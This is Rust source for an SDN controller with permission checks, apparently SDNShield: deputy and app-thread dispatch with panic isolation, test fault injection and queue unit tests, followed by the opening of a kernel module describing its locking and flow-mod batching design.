    /// Publishes a custom event from outside the app layer (test drivers:
    /// e.g. simulating an inbound web request waking an app), blocking until
    /// subscribers have processed it.
    pub fn publish_topic(&self, topic: &str, data: bytes::Bytes) {
        let events = vec![crate::kernel::OutboundEvent {
            event: Event::Custom {
                topic: topic.to_owned(),
                data,
            },
        }];
        self.dispatcher.dispatch(&self.cell.load(), events, true);
    }

    /// Fails a physical link and synchronously notifies topology
    /// subscribers. Returns whether the link existed.
    pub fn fail_link(&self, a: DatapathId, b: DatapathId) -> bool {
        let kernel = self.cell.load();
        match kernel.fail_link(a, b) {
            Some(event) => {
                self.dispatcher.dispatch(&kernel, vec![event], true);
                true
            }
            None => false,
        }
    }

    /// Fires a topology-change notification to subscribed apps (the ALTO
    /// scenario driver), blocking until processed.
    pub fn deliver_topology_change(&self, description: &str) {
        let events = vec![crate::kernel::OutboundEvent {
            event: Event::TopologyChanged {
                description: description.to_owned(),
            },
        }];
        self.dispatcher.dispatch(&self.cell.load(), events, true);
    }

    /// Advances the virtual clock: flow-removed events dispatch
    /// synchronously, then any quarantined app whose backoff has elapsed is
    /// restarted.
    pub fn advance_clock(&self, secs: u64) {
        let kernel = self.cell.load();
        let events = kernel.advance_clock(secs);
        self.dispatcher.dispatch(&kernel, events, true);
        self.process_due_restarts();
    }

    /// Restarts every quarantined app whose backoff deadline has passed.
    fn process_due_restarts(&self) {
        loop {
            let kernel = self.cell.load();
            let now = kernel.now();
            // Claim one due entry at a time so the entries lock is not held
            // across the restart itself (on_start runs app code).
            let due = {
                let mut entries = self.supervisor.entries.lock();
                entries.iter_mut().find_map(|(id, sup)| match sup.state {
                    AppState::Quarantined { until } if until <= now => {
                        let fresh = sup.factory.as_ref().map(|f| f());
                        fresh.map(|app| {
                            sup.state = AppState::Restarting;
                            sup.restarts += 1;
                            (*id, sup.name.clone(), sup.manifest.clone(), app)
                        })
                    }
                    _ => None,
                })
            };
            let Some((id, name, manifest, app)) = due else {
                return;
            };
            // The crash reaping removed the app's engine; re-register it.
            if kernel.register_app(id, &name, &manifest).is_err() {
                if let Some(sup) = self.supervisor.entries.lock().get_mut(&id) {
                    sup.state = AppState::Stopped;
                }
                continue;
            }
            match self.spawn_app(id, &name, app) {
                Ok(()) => {
                    if let Some(sup) = self.supervisor.entries.lock().get_mut(&id) {
                        sup.state = AppState::Running;
                    }
                }
                Err(_) => {
                    // The fresh instance crashed in on_start: that is a
                    // crash like any other — reap, audit, re-apply policy.
                    kernel.deregister_app(id);
                    kernel.audit_crash(id, "on_start");
                    let now = kernel.now();
                    if let Some(sup) = self.supervisor.entries.lock().get_mut(&id) {
                        sup.crashes += 1;
                        sup.state = sup.state_after_crash(now);
                    }
                }
            }
        }
    }

    /// Stops all app threads and deputies, waiting for them to exit.
    pub fn shutdown(&self) {
        // Collect join handles first and release the apps lock before
        // joining: a deputy may be waiting on that lock to dispatch a
        // derived event while an app waits on that deputy's reply — joining
        // with the lock held would deadlock the triangle.
        let handles: Vec<JoinHandle<()>> = {
            let mut apps = self.dispatcher.apps.lock();
            apps.iter_mut()
                .filter_map(|(_, handle)| {
                    handle.queue.push_stop();
                    handle.thread.take()
                })
                .collect()
        };
        for t in handles {
            let _ = t.join();
        }
        // Stop the watchdog before the deputies, so it does not resurrect
        // them as they exit.
        self.pool.shutting_down.store(true, Ordering::SeqCst);
        if let Some(w) = self.watchdog.lock().take() {
            let _ = w.join();
        }
        let mut deputies = self.pool.handles.lock();
        for _ in deputies.iter() {
            let _ = self.call_tx.send(DeputyRequest::Stop);
        }
        for t in deputies.drain(..) {
            let _ = t.join();
        }
    }
}

impl Drop for ShieldedController {
    fn drop(&mut self) {
        self.shutdown();
    }
}

#[allow(clippy::too_many_arguments)]
fn app_loop(
    mut app: Box<dyn App>,
    ctx: AppCtx,
    id: AppId,
    queue: Arc<AppQueue>,
    ready: Sender<bool>,
    cell: Arc<KernelCell>,
    dispatcher: Arc<Dispatcher>,
    supervisor: Arc<Supervisor>,
    inflight: Arc<AtomicUsize>,
) {
    // Panics inside app code stay inside the app's thread — the isolation
    // property the paper's thread containers provide. A panicking app is
    // reaped by the supervisor; the controller and its peers keep running.
    let started = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        app.on_start(&ctx);
    }))
    .is_ok();
    let _ = ready.send(started);
    if !started {
        // The registration (or restart) path owns the rollback.
        return;
    }
    // One reusable event buffer for the life of the app thread — cleared
    // and refilled per burst, never reallocated once grown to the batch cap.
    let mut batch: Vec<QueuedEvent> = Vec::new();
    loop {
        let stop = queue.pop_batch_into(&mut batch, APP_BATCH_MAX);
        if batch.is_empty() {
            if stop {
                break;
            }
            continue;
        }
        let views: Vec<&Event> = batch.iter().map(|(event, _)| event.as_ref()).collect();
        // The whole burst — handler AND the submission of whatever flow-ops
        // it returns — runs under one unwind guard, and the acks only fire
        // afterwards: a synchronous delivery observes the event's full
        // effect, batched flow-mods included.
        let survived = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let ops = app.on_events(&ctx, &views);
            if !ops.is_empty() {
                let _ = ctx.submit_batch(ops);
            }
        }))
        .is_ok();
        // Always acknowledge and account, even on a crash, so synchronous
        // deliveries and quiesce() never wedge.
        for (_, ack) in &batch {
            if let Some(ack) = ack {
                let _ = ack.send(());
            }
        }
        inflight.fetch_sub(batch.len(), Ordering::SeqCst);
        if !survived {
            let kernel = cell.load();
            drain_queue(&queue, &kernel, id, &inflight, true);
            handle_crash(&kernel, &dispatcher, &supervisor, id, "on_event");
            return;
        }
    }
    // Graceful stop: account for anything still queued so quiesce() and
    // synchronous dispatchers stay accurate.
    drain_queue(&queue, &cell.load(), id, &inflight, false);
}

/// How many queued events an app thread drains per wake-up.
const APP_BATCH_MAX: usize = 128;

/// Closes an app queue and acknowledges/uncounts every event left in it.
/// Crash-time drains additionally audit each discarded event.
fn drain_queue(queue: &AppQueue, kernel: &Kernel, id: AppId, inflight: &AtomicUsize, audit: bool) {
    for (_, ack) in queue.close_and_drain() {
        if let Some(ack) = ack {
            let _ = ack.send(());
        }
        inflight.fetch_sub(1, Ordering::SeqCst);
        if audit {
            kernel.audit_dropped(id, "event_discarded_on_crash");
        }
    }
}

/// How many `try_recv` attempts a deputy burns before parking on the
/// blocking `recv` — long enough to catch back-to-back pipelined requests,
/// short enough not to hurt an idle machine.
const DEPUTY_SPIN_TRIES: usize = 64;

/// Upper bound on the requests a deputy drains into one local burst.
const DEPUTY_BURST_MAX: usize = 32;

/// Spin-then-park receive: a deputy under load takes the next request off
/// the queue without a park/wake syscall round trip; an idle deputy falls
/// back to the blocking `recv` after a short spin.
fn recv_adaptive(rx: &Receiver<DeputyRequest>) -> Option<DeputyRequest> {
    for _ in 0..DEPUTY_SPIN_TRIES {
        match rx.try_recv() {
            Ok(req) => return Some(req),
            Err(TryRecvError::Empty) => std::hint::spin_loop(),
            Err(TryRecvError::Disconnected) => return None,
        }
    }
    rx.recv().ok()
}

/// Requests a deputy has drained into its local burst but not yet served.
/// The deque is borrowed from the deputy loop's frame and reset per burst
/// (an arena in the reset-per-burst sense: one allocation for the thread's
/// whole life). If the deputy dies mid-burst (the injected `KillDeputy`
/// fault), the drop guard uncounts every unserved request and drops its
/// reply sender, so callers observe a disconnect and `quiesce()` never
/// waits on work no thread will do.
struct Burst<'a> {
    pending: &'a mut VecDeque<DeputyRequest>,
    inflight: &'a AtomicUsize,
}

impl Drop for Burst<'_> {
    fn drop(&mut self) {
        for req in self.pending.drain(..) {
            if !matches!(req, DeputyRequest::Stop) {
                self.inflight.fetch_sub(1, Ordering::SeqCst);
            }
        }
    }
}

fn deputy_loop(
    cell: Arc<KernelCell>,
    dispatcher: Arc<Dispatcher>,
    rx: Receiver<DeputyRequest>,
    inflight: Arc<AtomicUsize>,
    faults: Arc<FaultRegistry>,
) {
    // The burst deque outlives individual bursts: drained empty each time,
    // its capacity (at most `DEPUTY_BURST_MAX`) is allocated once.
    let mut pending: VecDeque<DeputyRequest> = VecDeque::with_capacity(DEPUTY_BURST_MAX);
    loop {
        let Some(first) = recv_adaptive(&rx) else {
            return;
        };
        // One load per burst: after a failover promotion the next burst
        // executes against the promoted kernel; requests in the current
        // burst that raced the seal see `ApiError::Shutdown` and retry.
        let kernel = cell.load();
        let burst = Burst {
            pending: &mut pending,
            inflight: &inflight,
        };
        burst.pending.push_back(first);
        // Wake batching: whatever else is already queued rides the same
        // wake-up. A `Publish` or `Stop` must be the LAST request drained:
        // a publish dispatches synchronously to subscribers whose own
        // pending calls could be trapped *behind* it in this local burst
        // (un-stealable by peer deputies — deadlock), and a swallowed Stop
        // would starve a peer deputy of its shutdown signal.
        while burst.pending.len() < DEPUTY_BURST_MAX
            && !matches!(
                burst.pending.back(),
                Some(DeputyRequest::Publish { .. } | DeputyRequest::Stop)
            )
        {
            match rx.try_recv() {
                Ok(req) => burst.pending.push_back(req),
                Err(_) => break,
            }
        }
        while let Some(req) = burst.pending.pop_front() {
            let counted = !matches!(req, DeputyRequest::Stop);
            match req {
                DeputyRequest::Call { call, reply } => {
                    let fault = faults.deputy_action(call.app);
                    if fault == DeputyFault::KillDeputy {
                        // The work item must be uncounted before the thread
                        // dies, or quiesce() would wait for it forever. The
                        // reply sender drops with the stack, so the caller sees
                        // an immediate disconnect, and the watchdog respawns
                        // this deputy.
                        inflight.fetch_sub(1, Ordering::SeqCst);
                        panic!("injected fault: deputy killed");
                    }
                    // The unwind guard is the containment boundary: a call that
                    // panics kernel logic (or an injected fault) poisons that
                    // one call, not the deputy serving it.
                    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                        if fault == DeputyFault::Panic {
                            panic!("injected fault: panic during call execution");
                        }
                        kernel.execute(&call)
                    }));
                    match outcome {
                        Ok((result, events)) => {
                            if fault == DeputyFault::DropReply {
                                // Keep the sender alive so the caller times out
                                // rather than seeing a disconnect.
                                faults.park(Box::new(reply));
                            } else {
                                let _ = reply.send(result);
                            }
                            // Derived events (packet-ins from packet-outs,
                            // flow-removed from deletes) dispatch
                            // asynchronously: the issuing call must not block
                            // on other apps.
                            dispatcher.dispatch(&kernel, events, false);
                        }
                        Err(_) => {
                            let _ = reply.send(Err(ApiError::Internal(
                                "deputy panicked executing the call".into(),
                            )));
                        }
                    }
                }
                DeputyRequest::Transaction { app, ops, reply } => {
                    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                        kernel.execute_transaction(app, &ops)
                    }));
                    match outcome {
                        Ok((result, events)) => {
                            let _ = reply.send(result);
                            dispatcher.dispatch(&kernel, events, false);
                        }
                        Err(_) => {
                            let _ = reply.send(Err(ApiError::Internal(
                                "deputy panicked executing the transaction".into(),
                            )));
                        }
                    }
                }
                DeputyRequest::Batch { app, ops, reply } => {
                    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                        kernel.execute_batch(app, &ops)
                    }));
                    match outcome {
                        Ok((result, events)) => {
                            let _ = reply.send(result);
                            dispatcher.dispatch(&kernel, events, false);
                        }
                        Err(_) => {
                            let _ = reply.send(Err(ApiError::Internal(
                                "deputy panicked executing the batch".into(),
                            )));
                        }
                    }
                }
                DeputyRequest::PacketOuts { app, outs, reply } => {
                    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                        kernel.execute_packet_outs(app, &outs)
                    }));
                    match outcome {
                        Ok((result, events)) => {
                            let _ = reply.send(result);
                            dispatcher.dispatch(&kernel, events, false);
                        }
                        Err(_) => {
                            let _ = reply.send(Err(ApiError::Internal(
                                "deputy panicked executing the packet-out group".into(),
                            )));
                        }
                    }
                }
                DeputyRequest::HostSend {
                    app,
                    conn,
                    data,
                    reply,
                } => {
                    let _ = reply.send(kernel.host_send(app, conn, data));
                }
                DeputyRequest::SubscribeTopic { app, topic, reply } => {
                    kernel.subscribe_topic(app, &topic);
                    let _ = reply.send(Ok(()));
                }
                DeputyRequest::Publish { event, reply } => {
                    // Publish is synchronous: subscribers finish processing
                    // before the publisher resumes, giving deterministic
                    // event chains (requires ≥ 2 deputies, see `new`).
                    dispatcher.dispatch(&kernel, vec![OutboundEvent { event }], true);
                    let _ = reply.send(Ok(()));
                }
                DeputyRequest::Stop => return,
            }
            if counted {
                inflight.fetch_sub(1, Ordering::SeqCst);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_netsim::topology::builders;

    fn dead_handle(queue: Arc<AppQueue>) -> AppHandle {
        AppHandle {
            queue,
            thread: None,
        }
    }

    fn desc_of(event: &Event) -> &str {
        match event {
            Event::TopologyChanged { description } => description,
            _ => panic!("expected a topology event"),
        }
    }

    #[test]
    fn app_queue_sheds_oldest_beyond_capacity() {
        let q = AppQueue::new(2);
        let ev = |d: &str| {
            Arc::new(Event::TopologyChanged {
                description: d.into(),
            })
        };
        assert!(matches!(q.push_event(ev("a"), None), PushOutcome::Queued));
        assert!(matches!(q.push_event(ev("b"), None), PushOutcome::Queued));
        // Full: pushing "c" sheds "a".
        assert!(matches!(q.push_event(ev("c"), None), PushOutcome::Shed(_)));
        let mut batch = Vec::new();
        let stop = q.pop_batch_into(&mut batch, 8);
        assert!(!stop);
        let got: Vec<&str> = batch.iter().map(|(e, _)| desc_of(e)).collect();
        assert_eq!(got, ["b", "c"]);
    }

    #[test]
    fn app_queue_delivers_stop_after_drain_then_closes() {
        let q = AppQueue::new(4);
        let ev = Arc::new(Event::TopologyChanged {
            description: "x".into(),
        });
        assert!(matches!(
            q.push_event(Arc::clone(&ev), None),
            PushOutcome::Queued
        ));
        q.push_stop();
        // Events queued before the stop still drain first.
        let mut batch = Vec::new();
        let stop = q.pop_batch_into(&mut batch, 8);
        assert_eq!(batch.len(), 1);
        assert!(!stop);
        let stop = q.pop_batch_into(&mut batch, 8);
        assert!(batch.is_empty());
        assert!(stop);
        // After stop, pushes are refused.
        assert!(matches!(q.push_event(ev, None), PushOutcome::Closed));
    }

    #[test]
    fn push_batch_sheds_per_slot_and_reports_refusals() {
        let q = AppQueue::new(2);
        let ev = |d: &str| {
            Arc::new(Event::TopologyChanged {
                description: d.into(),
            })
        };
        // Four events into a capacity-2 queue: the two oldest are shed.
        let mut incoming = vec![ev("a"), ev("b"), ev("c"), ev("d")];
        let outcome = q.push_batch(&mut incoming);
        assert_eq!(outcome.shed_acks.len(), 2);
        assert_eq!(outcome.refused, 0);
        assert!(incoming.is_empty(), "push_batch must drain the buffer");
        let mut batch = Vec::new();
        q.pop_batch_into(&mut batch, 8);
        let got: Vec<&str> = batch.iter().map(|(e, _)| desc_of(e)).collect();
        assert_eq!(got, ["c", "d"]);
        // A closed queue refuses the whole batch (and still drains it, so
        // the caller's recycled buffer comes back empty).
        q.close_and_drain();
        let mut incoming = vec![ev("e"), ev("f")];
        let outcome = q.push_batch(&mut incoming);
        assert!(outcome.shed_acks.is_empty());
        assert_eq!(outcome.refused, 2);
        assert!(incoming.is_empty());
    }

    #[test]
    fn pop_batch_respects_max() {
        let q = AppQueue::new(8);
        for d in ["a", "b", "c"] {
            let ev = Arc::new(Event::TopologyChanged {
                description: d.into(),
            });
            assert!(matches!(q.push_event(ev, None), PushOutcome::Queued));
        }
        let mut batch = Vec::new();
        let stop = q.pop_batch_into(&mut batch, 2);
        assert_eq!(batch.len(), 2);
        assert!(!stop);
        let stop = q.pop_batch_into(&mut batch, 2);
        assert_eq!(batch.len(), 1);
        assert!(!stop);
    }

    #[test]
    fn send_event_to_closed_queue_keeps_inflight_balanced() {
        let inflight = Arc::new(AtomicUsize::new(0));
        let dispatcher = Dispatcher::new(Arc::clone(&inflight));
        let kernel = Kernel::new(Network::new(builders::linear(1), 16), true);
        let queue = Arc::new(AppQueue::new(4));
        queue.close_and_drain();
        dispatcher.apps.lock().insert(AppId(9), dead_handle(queue));
        let event = Event::TopologyChanged {
            description: "link flap".into(),
        };
        let ack = dispatcher.send_event(&kernel, AppId(9), &event, true);
        assert!(ack.is_none(), "closed queue must not promise an ack");
        assert_eq!(
            inflight.load(Ordering::SeqCst),
            0,
            "refused delivery must not leak an in-flight count"
        );
    }

    #[test]
    fn send_event_shed_accounts_and_audits() {
        let inflight = Arc::new(AtomicUsize::new(0));
        let dispatcher = Dispatcher::new(Arc::clone(&inflight));
        let kernel = Kernel::new(Network::new(builders::linear(1), 16), true);
        let queue = Arc::new(AppQueue::new(1));
        dispatcher
            .apps
            .lock()
            .insert(AppId(5), dead_handle(Arc::clone(&queue)));
        let event = Event::TopologyChanged {
            description: "e".into(),
        };
        // First delivery fills the queue; second sheds the first.
        let first_ack = dispatcher.send_event(&kernel, AppId(5), &event, true);
        assert!(first_ack.is_some());
        let second_ack = dispatcher.send_event(&kernel, AppId(5), &event, true);
        assert!(second_ack.is_some());
        // The shed event was acknowledged on the spot...
        assert!(first_ack.unwrap().try_recv().is_ok());
        // ...its in-flight count was released (one event remains queued)...
        assert_eq!(inflight.load(Ordering::SeqCst), 1);
        // ...and the drop is on the audit trail.
        let audit = kernel.audit_records_since(0);
        assert!(audit.iter().any(|r| r.app == AppId(5)
            && r.outcome == crate::audit::AuditOutcome::Dropped
            && r.operation == "event_shed"));
    }
}
