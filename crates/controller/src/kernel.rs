//! The controller kernel: the single owner of network state, the permission
//! engines, and the book-keeping behind stateful filters.
//!
//! All mutation goes through [`Kernel::execute`] — the choke point the paper
//! calls the Kernel Service Deputy boundary (§VI-A). The kernel checks the
//! call against the calling app's compiled permission engine (unless checks
//! are disabled — the monolithic baseline), executes it, records the outcome
//! in the audit log, and returns any events the execution generated for the
//! dispatcher to deliver.
//!
//! # Concurrency
//!
//! There is no kernel-wide lock. State is decomposed into independently
//! synchronized subsystems so concurrent deputies contend only where they
//! genuinely share data (paper §IX-B2: permission engines are stateless per
//! call and scale out across deputy threads):
//!
//! * **registry** (`RwLock`): engines, app names, virtual topologies.
//!   Read-mostly — written only at register/deregister time. The permission
//!   check clones an `Arc<PermissionEngine>` out of a read guard and runs
//!   against the tracker's read lock: no exclusive kernel lock anywhere on
//!   the check path.
//! * **network**: internally sharded by `netsim` — per-switch mutexes, an
//!   `RwLock` topology, an atomic clock. Flow-mods on distinct datapaths
//!   take distinct locks.
//! * **tracker** (`RwLock`): ownership/quota state read by checks, written
//!   after successful flow-mods.
//! * **audit**: internally segmented, lock-free sequence allocation;
//!   appends never serialize deputies on one mutex.
//! * **subs**, **host**, **host_inbox**: small independent locks.
//!
//! Lock-ordering hierarchy (a thread may only acquire downward, and the
//! code never holds two of these at once except Registry→Topology inside
//! `topology_view_for`): Registry → Subs → Tracker → Topology →
//! Switch(ascending dpid, one at a time) → Host → HostInbox. See
//! DESIGN.md "Locking hierarchy & scaling" for the rationale and the
//! relaxations this buys (check-then-apply quota overshoot, cross-thread
//! audit ordering).

use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use crossbeam::queue::ArrayQueue;
use parking_lot::{Mutex, MutexGuard, RwLock, RwLockReadGuard, RwLockWriteGuard};

use sdnshield_core::api::{ApiCall, ApiCallKind, AppId, EventKind};
use sdnshield_core::engine::{Decision, OwnershipTracker, PermissionEngine};
use sdnshield_core::filter::{FilterExpr, SingletonFilter};
use sdnshield_core::perm::PermissionSet;
use sdnshield_core::token::PermissionToken;
use sdnshield_core::vtopo::{PhysView, VirtualTopology};
use sdnshield_netsim::network::{Delivery, Network};
use sdnshield_openflow::flow_table::RemovedEntry;
use sdnshield_openflow::messages::{
    FlowMod, FlowRemoved, OfError, PacketIn, PacketOut, StatsReply, StatsRequest,
};
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::{Cookie, DatapathId, EthAddr};

use crate::api::{ApiError, ApiResponse, FlowOp, SwitchView, TopologyView};
use crate::audit::{AuditLog, AuditOutcome};
use crate::command::{Command, CommandOutcome, KernelSnapshot, SwitchSnapshot};
use crate::events::Event;
use crate::hostsys::{ConnId, HostSystem};
use crate::journal::{Journal, JournalRecord};
use crate::lockorder::{self, Ordered, Rank};

/// An event produced by executing a call, to be routed by the dispatcher.
#[derive(Debug, Clone, PartialEq)]
pub struct OutboundEvent {
    /// The event body (payload stripping happens per receiving app at
    /// dispatch).
    pub event: Event,
}

/// Capacity of the flat-combining slot ring: how many contending submitters
/// can park behind the combiner before the overflow path falls back to
/// blocking on the commit lock directly.
const SUBMIT_RING_CAPACITY: usize = 64;

/// How long a parked submitter waits on its slot condvar before re-checking
/// whether it should become the combiner itself (guards against the window
/// where every combiner finished before the slot landed in the ring).
const SUBMIT_PARK: Duration = Duration::from_micros(50);

/// Yield-spin budget a waiting submitter burns before falling back to the
/// timed condvar park. Combiner drains are microseconds long, so a handful
/// of scheduler yields almost always covers them — without paying a futex
/// sleep/wake round-trip per combined command.
const SUBMIT_SPINS: u32 = 1024;

/// Spin budget adjusted for the host: on a uniprocessor the combiner can
/// only make progress while the waiter is *off* the core, so yield-spinning
/// just burns scheduler round-trips — park immediately and let the
/// combiner's fulfil wake us instead.
fn submit_spin_budget() -> u32 {
    static BUDGET: std::sync::OnceLock<u32> = std::sync::OnceLock::new();
    *BUDGET.get_or_init(|| {
        let cores = std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1);
        if cores > 1 {
            SUBMIT_SPINS
        } else {
            0
        }
    })
}

/// One parked submitter's rendezvous cell in the flat-combining protocol
/// (DESIGN.md §16). The submitter publishes its command here and parks; the
/// combiner takes the command, applies it as part of a drained batch, and
/// hands the result back through the same cell.
///
/// Built on `std::sync` (not the parking_lot shim) because the protocol
/// needs a condvar. Lock ordering: the combiner takes a slot's mutex only
/// while holding the commit lock; a waiter never acquires the commit lock
/// while holding its slot mutex — so the pair cannot invert.
struct SubmitSlot {
    state: std::sync::Mutex<SlotState>,
    cv: std::sync::Condvar,
}

struct SlotState {
    /// The submitted command; taken (exactly once) by the combiner.
    cmd: Option<Command>,
    /// The command's result; taken (exactly once) by the submitter.
    done: Option<(CommandOutcome, Vec<OutboundEvent>)>,
}

impl SubmitSlot {
    fn new(cmd: Command) -> SubmitSlot {
        SubmitSlot {
            state: std::sync::Mutex::new(SlotState {
                cmd: Some(cmd),
                done: None,
            }),
            cv: std::sync::Condvar::new(),
        }
    }

    fn state(&self) -> std::sync::MutexGuard<'_, SlotState> {
        // Slot holders never panic while holding the lock (they only move
        // options in and out), but swallow poisoning anyway: a lost submit
        // must not cascade.
        match self.state.lock() {
            Ok(g) => g,
            Err(p) => p.into_inner(),
        }
    }

    fn take_cmd(&self) -> Option<Command> {
        self.state().cmd.take()
    }

    fn fulfill(&self, result: (CommandOutcome, Vec<OutboundEvent>)) {
        let mut st = self.state();
        st.done = Some(result);
        self.cv.notify_one();
    }

    fn try_take_done(&self) -> Option<(CommandOutcome, Vec<OutboundEvent>)> {
        self.state().done.take()
    }

    fn park(&self, timeout: Duration) {
        let st = self.state();
        if st.done.is_some() {
            return;
        }
        let _ = self.cv.wait_timeout(st, timeout);
    }
}

/// Internal combiner counters, all updated with relaxed atomics on the
/// write path and snapshotted by [`Kernel::combiner_stats`].
#[derive(Default)]
struct CombinerCounters {
    /// Commands that entered [`Kernel::submit`].
    submitted: AtomicU64,
    /// Non-empty batch drains (commit-lock acquisitions that applied work).
    drains: AtomicU64,
    /// Commands applied by a combiner on behalf of a parked peer.
    combined: AtomicU64,
    /// Submitters that found the slot ring full and fell back to blocking
    /// on the commit lock directly.
    ring_fallbacks: AtomicU64,
    /// Batch-size histogram: buckets 1, 2, 3–4, 5–8, 9–16, 17–32, 33–64, 65+.
    batch_hist: [AtomicU64; 8],
    /// Largest batch drained so far.
    max_batch: AtomicU64,
    /// Flow-mods fanned out to switch lanes.
    lane_jobs: AtomicU64,
    /// Lane-parallel runs executed.
    lane_runs: AtomicU64,
    /// Deepest per-run lane fan-out observed.
    max_lane_run: AtomicU64,
}

fn hist_bucket(n: usize) -> usize {
    match n {
        0 | 1 => 0,
        2 => 1,
        3..=4 => 2,
        5..=8 => 3,
        9..=16 => 4,
        17..=32 => 5,
        33..=64 => 6,
        _ => 7,
    }
}

/// A point-in-time snapshot of the group-commit write pipeline's health,
/// surfaced through `ShieldedController::combiner_stats` next to
/// `fast_path_hits` (DESIGN.md §16).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CombinerStats {
    /// Commands that entered `submit`.
    pub submitted: u64,
    /// Non-empty batch drains.
    pub drains: u64,
    /// Commands applied by a combiner on behalf of a parked peer.
    pub combined: u64,
    /// Ring-full fallbacks to the blocking commit lock.
    pub ring_fallbacks: u64,
    /// Batch-size histogram: buckets 1, 2, 3–4, 5–8, 9–16, 17–32, 33–64, 65+.
    pub batch_hist: [u64; 8],
    /// Largest batch drained.
    pub max_batch: u64,
    /// Current slot-ring occupancy (combiner-occupancy gauge).
    pub ring_depth: usize,
    /// Slot-ring capacity.
    pub ring_capacity: usize,
    /// Flow-mods fanned out to switch lanes.
    pub lane_jobs: u64,
    /// Lane-parallel runs executed.
    pub lane_runs: u64,
    /// Deepest per-run lane fan-out (lane-queue-depth high-water mark).
    pub max_lane_run: u64,
    /// Configured switch-lane count (0 = lanes disabled).
    pub lanes: usize,
}

impl CombinerStats {
    /// Mean commands per non-empty drain (1.0 when uncontended).
    pub fn mean_batch(&self) -> f64 {
        if self.drains == 0 {
            0.0
        } else {
            self.submitted as f64 / self.drains as f64
        }
    }
}

/// A flow-mod application job bound for a switch's home lane.
struct LaneJob {
    /// Position within the current run (results are reassembled by index).
    idx: usize,
    dpid: DatapathId,
    flow_mod: FlowMod,
}

/// Outcome of one lane-applied flow-mod.
type LaneApply = Result<Vec<RemovedEntry>, OfError>;
/// A lane's reply: the job's run index plus its apply outcome.
type LaneResult = (usize, LaneApply);

/// Single-writer switch lanes: N worker threads, each the *only* writer for
/// its home shard of datapaths (`dpid % lanes`), so flow-mod application
/// inside a combiner drain takes effectively uncontended switch locks. Jobs
/// for the same dpid always land on the same lane in drain order, so
/// per-switch apply order — and with it every removed-entry event — is
/// identical to the serial path.
struct LanePool {
    senders: Vec<crossbeam::channel::Sender<LaneJob>>,
    results_rx: crossbeam::channel::Receiver<LaneResult>,
    handles: Vec<std::thread::JoinHandle<()>>,
}

impl LanePool {
    fn new(network: Arc<Network>, lanes: usize, pin: bool) -> LanePool {
        let (res_tx, res_rx) = crossbeam::channel::unbounded::<LaneResult>();
        let mut senders = Vec::with_capacity(lanes);
        let mut handles = Vec::with_capacity(lanes);
        for i in 0..lanes {
            let (tx, rx) = crossbeam::channel::unbounded::<LaneJob>();
            let net = Arc::clone(&network);
            let res = res_tx.clone();
            let handle = std::thread::Builder::new()
                .name(format!("ksl-{i}"))
                .spawn(move || {
                    if pin {
                        let _ = affinity::pin_to_core(i);
                    }
                    while let Ok(job) = rx.recv() {
                        let out = net.apply_flow_mod(job.dpid, &job.flow_mod);
                        if res.send((job.idx, out)).is_err() {
                            break;
                        }
                    }
                })
                .expect("failed to spawn switch lane");
            senders.push(tx);
            handles.push(handle);
        }
        LanePool {
            senders,
            results_rx: res_rx,
            handles,
        }
    }

    fn lane_count(&self) -> usize {
        self.senders.len()
    }

    /// The home lane for a datapath.
    fn home(&self, dpid: DatapathId) -> usize {
        dpid.0 as usize % self.senders.len()
    }

    fn dispatch(&self, idx: usize, dpid: DatapathId, flow_mod: FlowMod) {
        let _ = self.senders[self.home(dpid)].send(LaneJob {
            idx,
            dpid,
            flow_mod,
        });
    }

    /// Collects exactly `jobs` results into `sink` by index.
    fn collect(&self, jobs: usize, sink: &mut [Option<LaneApply>]) {
        for _ in 0..jobs {
            let (idx, out) = self.results_rx.recv().expect("switch lane died mid-batch");
            sink[idx] = Some(out);
        }
    }
}

impl Drop for LanePool {
    fn drop(&mut self) {
        self.senders.clear(); // disconnect: workers exit their recv loop
        for h in self.handles.drain(..) {
            let _ = h.join();
        }
    }
}

/// The precomputed per-command plan for one entry of a lane-parallel run:
/// the permission decision is already made (it was call-only, hence a pure
/// function of the call), the cookie is stamped, and the target is a single
/// physical datapath.
struct FlowLanePlan {
    app: AppId,
    kind_name: &'static str,
    token: PermissionToken,
    dpid: DatapathId,
    /// `Some` iff the call passed its check (denied calls carry no mod).
    stamped: Option<FlowMod>,
    denied: Option<ApiError>,
}

/// Read-mostly app registry: written only at register/deregister time, read
/// on every checked call.
#[derive(Default)]
struct Registry {
    engines: HashMap<AppId, Arc<PermissionEngine>>,
    /// App names for diagnostics.
    app_names: HashMap<AppId, String>,
    /// Per-app virtual topology mappers (apps granted a VIRTUAL filter).
    vtopos: HashMap<AppId, Arc<VirtualTopology>>,
    /// Canonical manifest text per app, kept so snapshots and journaled
    /// registrations can recompile the identical engine after a restart.
    manifests: HashMap<AppId, String>,
}

/// Event routing state.
#[derive(Default)]
struct Subscriptions {
    /// Event subscriptions by kind: (app, intercepts) in delivery order,
    /// interceptors first.
    by_kind: BTreeMap<&'static str, Vec<(AppId, bool)>>,
    /// Custom-topic subscriptions (service apps, e.g. ALTO).
    custom: BTreeMap<String, Vec<AppId>>,
}

/// The kernel: shared, internally synchronized controller state.
pub struct Kernel {
    registry: RwLock<Registry>,
    subs: RwLock<Subscriptions>,
    tracker: RwLock<OwnershipTracker>,
    /// Lock-free mirror of the tracker's epoch, republished under the
    /// tracker write lock by [`Kernel::tracker_mut`]. Lets
    /// [`Kernel::context_epoch`] — and through it every call-only
    /// permission check and the app-side read fast lane — avoid the
    /// tracker's read lock entirely.
    tracker_epoch: AtomicU64,
    network: Arc<Network>,
    host: Mutex<HostSystem>,
    /// Frames delivered to host NICs, for data-plane observation in tests.
    host_inbox: Mutex<BTreeMap<EthAddr, Vec<EthernetFrame>>>,
    audit: AuditLog,
    /// Whether permission checks run (false = monolithic baseline).
    checks_enabled: bool,
